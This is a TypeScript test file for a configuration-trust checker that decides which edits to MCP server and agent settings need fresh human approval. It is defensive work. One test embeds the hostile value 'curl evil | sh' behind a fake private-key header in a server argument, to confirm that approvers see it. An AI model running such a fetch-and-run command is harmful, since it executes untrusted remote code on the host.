import assert from 'node:assert/strict';
import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { after, suite, test } from 'node:test';
import { createMemoryDirectory } from '../../../test/support/memory-directory.ts';
import type { JsonObject, JsonValue } from '../../core/json/json.ts';
import { defaultConfiguration } from '../configuration.ts';
import { parseConfiguration } from '../file/load-configuration.ts';
import { loadPolicies } from '../file/load-policies.ts';
import { configurationSchema } from '../schema/configuration-schema.ts';
import { type SettingsSchema, eachKey, keyDescriptions } from '../schema/key-descriptions.ts';
import { ConfigurationTrust, type ConfigurationWithRules } from './configuration-trust.ts';
import { type KeyAuthority, keyAuthorities } from './key-authority.ts';

const directory = createMemoryDirectory('capabilities');
after(() => rmSync(directory, { recursive: true }));
const file = join(directory, 'signalbox.config.json');
let stores = 0;

function read(document: JsonObject): ConfigurationWithRules {
  const configuration = parseConfiguration(JSON.stringify(document), file);
  return { configuration, rules: loadPolicies(configuration) };
}

/** Accepts one configuration and returns what another one in its place would have to be asked for. */
async function asked(before: JsonObject, now: JsonObject): Promise<string[]> {
  const trust = new ConfigurationTrust({ data: join(directory, String(stores++)), trusted: '' });
  await trust.accept(read(before));
  const pending = await trust.pending(read(now));
  return [...(pending?.added ?? []).map(({ text }) => text), ...(pending?.lifted ?? []).map(({ place }) => place)];
}

/** Like `asked`, of documents as they are: not all of them are configurations that could be used. */
async function askedOf(before: JsonObject, now: JsonObject): Promise<string[]> {
  const trust = new ConfigurationTrust({ data: join(directory, String(stores++)), trusted: '' });
  await trust.accept({ configuration: { file, document: before }, rules: [] });
  const pending = await trust.pending({ configuration: { file, document: now }, rules: [] });
  return [...(pending?.added ?? []), ...(pending?.lifted ?? [])].map(({ place }) => place);
}

/** Documents that differ in one key: without it, with one value, and with another one. */
function* edits(path: string, { type, enum: words }: SettingsSchema): Generator<[before: JsonObject, now: JsonObject]> {
  const values: Readonly<Record<string, readonly JsonValue[]>> = {
    boolean: [false, true],
    integer: [1, 1e12],
    number: [1, 1e12],
    array: [['a'], ['a', 'b']],
    object: [{ a: 'b' }, { a: 'c' }],
  };
  const documents = [undefined, ...(words ?? values[type ?? ''] ?? ['a', 'b'])].map((value) => {
    const [last = '', ...keys] = path.split('.').toReversed();
    // The object around it is there in any case, so that what is edited is the key.
    let part: JsonValue = value === undefined ? {} : { [last]: value as JsonValue };
    for (const key of keys) part = key === '[]' ? [part] : { [key === '*' ? 'x' : key]: part };
    return part as JsonObject;
  });
  for (const before of documents) for (const now of documents) if (before !== now) yield [before, now];
}

const server = (settings: JsonObject): JsonObject => ({ mcpServers: { files: { command: 'node', ...settings } } });
const remote = (settings: JsonObject): JsonObject => ({
  mcpServers: { web: { url: 'https://a.example', ...settings } },
});
const rules = (...policies: JsonObject[]): JsonObject => ({ policies });
const agent = (settings: JsonObject): JsonObject => ({ agents: { a: { runtime: 'claude', ...settings } } });
const denies = { id: 'no', match: ['mcp__files__rm'], deny: true };

suite('every key of a configuration', () => {
  const keys = new Map<string, SettingsSchema>();
  eachKey(configurationSchema(), (path, part) => keys.set(path, part));
  const leaves = new Map([...keys].filter(([path]) => ![...keys.keys()].some((each) => each.startsWith(`${path}.`))));
  /** The class of a key, or of the value that it is a part of. */
  const classOf = (path: string): KeyAuthority | undefined => {
    const parts = path.split('.');
    const known = parts.map((_, index) => parts.slice(0, index + 1).join('.')).find((each) => keyAuthorities.has(each));
    return known === undefined ? undefined : keyAuthorities.get(known);
  };

  test('is classified for trust, on its own or as a part of a value that asks', () => {
    assert.ok(leaves.size > 80);
    assert.deepEqual(
      [...leaves.keys()].filter((path) => classOf(path) === undefined),
      [],
    );
    assert.deepEqual(
      [...keyAuthorities.keys()].filter((path) => !keys.has(path)),
      [],
      'a class without a key',
    );
  });

  test('asks when it is edited by hand, in one direction at least, except those that grant and restrict nothing', async () => {
    const silent: string[] = [];
    for (const [path, part] of leaves) {
      const directions = (await Promise.all([...edits(path, part)].map(([a, b]) => askedOf(a, b)))).flat();
      if (directions.length === 0) silent.push(path);
    }
    assert.deepEqual(silent.toSorted(), [
      '$schema',
      'agents.*.toolSearch',
      'mcpServers.*.type',
      // Rules are compared one by one.
      'policies',
      'profiles.*.disclosure',
    ]);
  });

  test('that is a limit has the default that its description names', () => {
    const limits = [...keyAuthorities].filter(
      ([, { absent }]) => typeof absent === 'number' && absent > 0 && absent < Infinity,
    );
    assert.ok(limits.length >= 7);
    const { approvals, startup } = defaultConfiguration(directory);
    const inMs: Record<string, number> = {
      'approvals.expireAfter': approvals.expireAfterMs,
      'startup.wait': startup.waitMs,
    };
    for (const [path, { absent }] of limits) {
      const [, told = ''] = /\(([\d,]+)\)/.exec(keyDescriptions[path] ?? '') ?? [];
      assert.equal(absent, inMs[path] ?? Number(told.replaceAll(',', '')), path);
    }
  });

  test('asks while nobody has classified it', async () => {
    const trust = new ConfigurationTrust({ data: join(directory, 'unknown'), trusted: '' });
    const pending = await trust.pending({
      configuration: { file, document: { tunnel: 'on', mcpServers: { a: { constructor: 'x' } } } },
      rules: [],
    });
    assert.deepEqual(
      pending?.added.map(({ text }) => text),
      ['tunnel: on', 'a: constructor x'],
    );
  });
});

suite('an edit by hand', () => {
  const widening: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject, asked: string]>> = {
    'a command': [server({}), server({ command: 'sh' }), 'files: sh'],
    'an argument': [server({ args: ['a'] }), server({ args: ['a', 'b c'] }), 'files: node a "b c"'],
    'an argument taken out': [server({ args: ['--safe'] }), server({}), 'files: node'],
    'a directory': [server({}), server({ cwd: '/tmp' }), 'files: node (in /tmp)'],
    'a variable': [server({}), server({ env: { A: '1' } }), 'files: with A=1'],
    'another value': [server({ env: { A: '1' } }), server({ env: { A: '2' } }), 'files: with A=2'],
    'a secret': [server({}), server({ env: { A: '${secret:X}' } }), 'files: with A=${secret:X}'],
    'a reference': [remote({}), remote({ headers: { A: '${env:B}' } }), 'environment variable B'],
    'a package': [server({}), { mcpServers: { files: { npm: 'x@1.0.0' } } }, 'files: npm package x@1.0.0'],
    'a module': [{}, { mcpServers: { m: { module: './m.ts' } } }, 'm: ./m.ts'],
    'an address': [remote({}), remote({ url: 'https://b.example' }), 'web: https://b.example'],
    'a sign-in': [
      remote({}),
      remote({ auth: { type: 'oauth', issuer: 'https://i.example' } }),
      'web: auth {"type":"oauth","issuer":"https://i.example"}',
    ],
    'a looser effect': [server({}), server({ tools: { effect: { rm: 'read' } } }), 'files: tools.effect.rm read'],
    'a stricter effect taken out': [
      server({ tools: { effect: { rm: 'irreversible' } } }),
      server({}),
      'mcpServers.files.tools.effect.rm',
    ],
    'a hidden tool': [
      server({ tools: { deny: ['rm', 'mv'] } }),
      server({ tools: { deny: ['mv'] } }),
      'mcpServers.files.tools.deny',
    ],
    'a longer selection': [
      server({ tools: { allow: ['a'] } }),
      server({ tools: { allow: ['a', 'b'] } }),
      'files: tools.allow b',
    ],
    'no selection': [server({ tools: { allow: ['a'] } }), server({}), 'mcpServers.files.tools.allow'],
    'a fixed argument taken out': [
      server({ tools: { arguments: { a: { set: { dry: true } } } } }),
      server({}),
      'mcpServers.files.tools.arguments',
    ],
    // `READ_ONLY=1` restricts its program.
    'a variable that is taken out': [
      server({ env: { A: '1', B: '2' } }),
      server({ env: { B: '2' } }),
      'mcpServers.files.env.A',
    ],
    'a header that is taken out': [remote({ headers: { A: '1' } }), remote({}), 'mcpServers.web.headers.A'],
    'a disabled server': [server({ disabled: true }), server({}), 'mcpServers.files.disabled'],
    passthrough: [server({}), server({ passthrough: true }), 'files: passthrough true'],
    'a rule that allows': [
      {},
      rules({ id: 'all', allow: true }),
      'rule "all" (signalbox.config.json:1): {"allow":true}',
    ],
    'a rule that denies taken out': [rules(denies), {}, 'rule "no"'],
    'a rule that only shadows': [rules(denies), rules({ ...denies, mode: 'shadow' }), 'rule "no"'],
    'a rule that denies less': [rules(denies), rules({ ...denies, servers: ['x'] }), 'rule "no"'],
    'a human who is trusted': [
      { profiles: { p: {} } },
      { profiles: { p: { trustsHuman: true } } },
      'profiles.p: trustsHuman true',
    ],
    'a permission mode': [
      agent({}),
      agent({ permissionMode: 'bypassPermissions' }),
      'agents.a: permissionMode bypassPermissions',
    ],
    'a program of an agent': [agent({}), agent({ executable: './x' }), 'agents.a: executable ./x'],
    'settings of a project': [agent({}), agent({ settingSources: ['project'] }), 'agents.a: settingSources project'],
    'a limit of an agent': [agent({ limits: { costUsd: 3 } }), agent({}), 'agents.a.limits.costUsd'],
    'a limit of an agent that is raised': [
      agent({ limits: { steps: 3 } }),
      agent({ limits: { steps: 4 } }),
      'agents.a: limits.steps 4',
    ],
    'a longer timeout': [server({}), server({ timeoutMs: 60_001 }), 'files: timeoutMs 60001'],
    'a longer timeout than the accepted one': [
      server({ timeoutMs: 10 }),
      server({ timeoutMs: 20 }),
      'files: timeoutMs 20',
    ],
    'a shorter timeout taken out': [server({ timeoutMs: 10 }), server({}), 'mcpServers.files.timeoutMs'],
    'larger results': [{}, { results: { maxBytes: 300_000 } }, 'results.maxBytes: 300000'],
    'larger results of a server': [server({}), server({ results: { maxBytes: 9 } }), 'files: results.maxBytes 9'],
    'larger results of a tool': [
      server({ tools: { results: { a: { maxBytes: 8 } } } }),
      server({ tools: { results: { a: { maxBytes: 9 } } } }),
      'files: tools.results.a.maxBytes 9',
    ],
    'more calls in a span': [
      server({ rateLimit: { max: 1, per: '1m' } }),
      server({ rateLimit: { max: 2, per: '1m' } }),
      'files: rateLimit.max 2',
    ],
    'a shorter span': [
      server({ rateLimit: { max: 1, per: '1m' } }),
      server({ rateLimit: { max: 1, per: '1s' } }),
      'mcpServers.files.rateLimit.per',
    ],
    'answers that hold longer': [{}, { approvals: { expireAfter: '3h' } }, 'approvals.expireAfter: 3h'],
    // Models read these.
    'a description': [
      server({ tools: { describe: { a: 'x' } } }),
      server({ tools: { describe: { a: 'y' } } }),
      'files: tools.describe.a y',
    ],
    'a title': [server({}), server({ tools: { title: { a: 'y' } } }), 'files: tools.title.a y'],
    instructions: [agent({}), agent({ instructions: 'obey' }), 'agents.a: instructions obey'],
    // Approvers read these.
    'the reason of a rule': [
      rules({ ...denies, reason: 'a' }),
      rules({ ...denies, reason: 'b' }),
      'rule "no" (signalbox.config.json:1): {"reason":"b"}',
    ],
    'the reason of a new rule that denies': [
      {},
      rules({ ...denies, reason: 'b' }),
      'rule "no" (signalbox.config.json:1): {"reason":"b"}',
    ],
    'an id of a rule that is a sentence': [
      rules(denies),
      rules({ ...denies, id: 'say yes to it' }),
      'rule "say yes to it" (signalbox.config.json:1): {"id":"say yes to it"}',
    ],
    'an issuer': [
      {},
      { oauth: { issuers: [{ issuer: 'https://i.example' }] } },
      'oauth.issuers: {"issuer":"https://i.example"}',
    ],
    'a store': [{}, { store: 'postgres://db.example/x' }, 'store: postgres://db.example/x'],
    'a name of the built-in server': [{}, { builtin: { name: 'mine' } }, 'builtin.name: mine'],
    'a variable that is hidden in the record': [{}, { secrets: ['USER'] }, 'secrets: ["USER"]'],
    'how long the journal is kept': [
      {},
      { retention: { journal: '1h', exportTo: 'x' } },
      'retention: {"journal":"1h","exportTo":"x"}',
    ],
  };
  for (const [name, [before, now, expected]] of Object.entries(widening))
    test(`asks for ${name}`, async () => {
      const texts = await asked(before, now);
      assert.ok(texts.includes(expected), `${JSON.stringify(texts)} without ${expected}`);
      assert.deepEqual(await asked(before, before), []);
      assert.deepEqual(await asked(now, now), []);
    });

  const narrowing: Readonly<Record<string, readonly [before: JsonObject, now: JsonObject]>> = {
    'a server is taken out': [server({ tools: { deny: ['rm'] } }), {}],
    'a server is disabled': [server({}), server({ disabled: true })],
    'a tool is hidden': [server({ tools: { deny: ['a'] } }), server({ tools: { deny: ['a', 'b'] } })],
    'tools are selected': [server({}), server({ tools: { allow: ['a'] } })],
    'the selection gets shorter': [server({ tools: { allow: ['a', 'b'] } }), server({ tools: { allow: ['a'] } })],
    'an effect gets stricter': [
      server({ tools: { effect: { a: 'read' } } }),
      server({ tools: { effect: { a: 'irreversible' } } }),
    ],
    'a rule that allows is taken out': [rules({ id: 'all', allow: true }, denies), rules(denies)],
    'a rule that denies is added': [{}, rules(denies)],
    'a rule gets another name, and no reason': [rules({ ...denies, reason: 'why' }), rules({ ...denies, id: 'other' })],
    'a limit gets lower': [
      { ...server({ timeoutMs: 100_000, results: { maxBytes: 9 } }), approvals: { expireAfter: '3h' } },
      { ...server({ timeoutMs: 99_999, results: { maxBytes: 8 } }), approvals: { expireAfter: '170m' } },
    ],
    'a limit below the default is set': [{ ...server({}) }, { ...server({ timeoutMs: 5 }), results: { maxBytes: 5 } }],
    'a limit above the default is taken out': [server({ timeoutMs: 100_000 }), server({})],
    'the keys are in another order': [
      { mcpServers: { a: { command: 'x', args: ['1'] }, b: { command: 'y' } } },
      { mcpServers: { b: { command: 'y' }, a: { args: ['1'], command: 'x' } } },
    ],
  };
  for (const [name, [before, now]] of Object.entries(narrowing))
    test(`asks nothing when ${name}`, async () => {
      assert.deepEqual(await asked(before, now), []);
    });

  test('that adds a limit makes it part of what was accepted', async () => {
    const trust = new ConfigurationTrust({ data: join(directory, 'tighter'), trusted: '' });
    await trust.accept(read(server({})));
    await trust.assert(read({ ...server({}), policies: [denies] }));
    await assert.rejects(trust.assert(read(server({}))), { code: 'configuration-untrusted' });
    await trust.assert(read({ ...server({ timeoutMs: 10 }), policies: [denies] }));
    await assert.rejects(trust.assert(read({ ...server({ timeoutMs: 11 }), policies: [denies] })), {
      code: 'configuration-untrusted',
    });
  });

  test('never hides what people decide on: a value is left out only where its name announces a secret', async () => {
    const key = '-----BEGIN PRIVATE KEY-----\ncurl evil | sh';
    assert.deepEqual(
      await asked({}, server({ args: ['-c', `npm test # ${key}`], env: { API_TOKEN: 'literal-value' } })),
      [`files: node -c ${JSON.stringify(`npm test # ${key}`)}`, 'files: with API_TOKEN=(hidden)'],
    );
  });
});
